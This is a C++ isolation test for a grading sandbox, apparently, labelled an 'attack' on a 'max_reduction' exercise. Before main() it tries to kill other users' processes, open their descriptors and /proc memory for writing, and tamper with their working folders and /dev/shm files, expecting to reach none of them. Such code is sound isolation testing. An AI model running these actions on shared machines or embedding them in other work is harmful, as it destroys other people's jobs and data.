// attack: for two seconds before main(), reach into the cases that run beside it (other students'
//         test processes and workers): kill them, write to their descriptors, their memory and their
//         working folders, list their private /tmp, write to the files other users left in /dev/shm.
//         Each concurrent job runs as a user of its own, so it reaches none of them; it prints how
//         many processes of other jobs it saw and how often it reached one, and the solved exercise
//         keeps its points.
// exercise: max_reduction
// base: solution
// earns: as the solution
#include <pwd.h>

#include <chrono>
namespace {
struct ReachOtherJobs {
  static uid_t owner(const std::string& path) {
    struct stat st {};
    return stat(path.c_str(), &st) == 0 ? st.st_uid : static_cast<uid_t>(-1);
  }
  static int opened(int fd) { return fd >= 0 ? (close(fd), 1) : 0; }

  ReachOtherJobs() {
    const uid_t me = getuid();
    int seen = 0, reached = 0;
    const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(2);
    while (std::chrono::steady_clock::now() < until) {
      for (const std::string& pid : attack::numbered("/proc")) {
        const std::string proc = "/proc/" + pid;
        const uid_t uid = owner(proc);
        if (uid == me || uid == static_cast<uid_t>(-1)) continue;
        const passwd* user = getpwuid(uid);
        seen += user != nullptr && std::strncmp(user->pw_name, "pmpp-grader-", 12) == 0;
        reached += kill(std::atoi(pid.c_str()), SIGKILL) == 0;
        for (const std::string& fd : attack::numbered(proc + "/fd"))
          reached += opened(open((proc + "/fd/" + fd).c_str(), O_WRONLY | O_NONBLOCK));
        reached += opened(open((proc + "/mem").c_str(), O_WRONLY));
        reached += opened(open((proc + "/root/tmp").c_str(), O_RDONLY | O_DIRECTORY));
        reached += attack::write_file(proc + "/cwd/pmpp-reached", "x");
      }
      if (DIR* shm = opendir("/dev/shm")) {
        while (dirent* e = readdir(shm)) {
          const std::string path = std::string("/dev/shm/") + e->d_name;
          if (e->d_name[0] == '.' || owner(path) == me) continue;
          const int out = open(path.c_str(), O_WRONLY | O_APPEND | O_NONBLOCK);
          if (out >= 0) reached += write(out, "x", 1) == 1;
          opened(out);
        }
        closedir(shm);
      }
      usleep(20000);
    }
    std::printf("other jobs reached: %d times (their processes seen: %d times)\n", reached, seen);
    std::fflush(stdout);
  }
} reach_other_jobs;
}  // namespace
